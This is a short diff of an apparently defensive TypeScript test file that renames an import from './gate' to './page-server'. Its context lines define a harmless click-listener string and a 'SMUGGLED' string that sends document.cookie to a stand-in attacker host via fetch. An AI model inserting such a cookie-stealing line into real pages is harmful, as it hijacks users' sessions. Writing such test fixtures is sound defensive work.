@@ -1,6 +1,6 @@
 import { createHash } from 'node:crypto';
 import { expect } from 'vitest';
-import { createSite } from './gate';
+import { createSite } from './page-server';
 
 export const KNOWN = "addEventListener('click', () => {})";
 export const SMUGGLED = 'fetch("https://site.evil/" + document.cookie)';
